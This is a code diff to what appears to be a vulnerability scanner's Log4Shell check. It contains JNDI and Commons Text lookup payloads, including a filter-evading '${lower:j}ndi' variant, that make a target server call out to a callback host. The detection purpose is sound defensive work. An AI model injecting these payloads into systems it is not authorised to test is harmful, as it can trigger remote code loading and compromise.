@@ -1,14 +1,14 @@
 import { observationAt } from './answers.ts';
-import { type Call, newCall } from './callback.ts';
+import { firstCalled } from './callback.ts';
 import type { ActiveCheck } from './check.ts';
 
 /**
  * As the flaw's first filters had it, then as those were got around, and Commons Text's own; the two
  * libraries leave each other's look-ups alone, so that one line tries all.
  */
-const lookUps: readonly ((host: string) => string)[] = [
-  (host) => `\${jndi:ldap://${host}}`,
-  (host) => `\${\${lower:j}ndi:\${lower:l}dap://${host}}\${url:UTF-8:http://${host}}`,
+const lookUps: readonly ((url: string) => string)[] = [
+  (url) => `\${jndi:${url.replace('http:', 'ldap:')}}`,
+  (url) => `\${\${lower:j}ndi:\${lower:l}dap:${url.replace('http:', '')}}\${url:UTF-8:${url}}`,
 ];
 
 export const log4shell: ActiveCheck = {
@@ -29,21 +29,9 @@ export const log4shell: ActiveCheck = {
   },
   appliesTo: () => true,
   async probe(point, prober) {
-    const sent: { value: string; call: Call }[] = [];
-    for (const write of lookUps) {
-      const call = newCall(prober);
-      if (call === null) return [];
-      const value = write(call.url.replace('http://', ''));
-      await prober.send(point, value);
-      sent.push({ value, call });
-    }
-    const heard = await Promise.all(sent.map(({ call }) => call.heard()));
-    for (const [at, { value }] of sent.entries()) {
-      const by = heard[at];
-      if (!by) continue;
-      const evidence = `Sent ${value} as "${point.name}"; the site's server called that address by ${by}.`;
-      return [observationAt(point, evidence)];
-    }
-    return [];
+    const called = await firstCalled(point, prober, lookUps);
+    if (called === undefined) return [];
+    const evidence = `Sent ${called.value} as "${point.name}"; the site's server called that address by ${called.by}.`;
+    return [observationAt(point, evidence)];
   },
 };
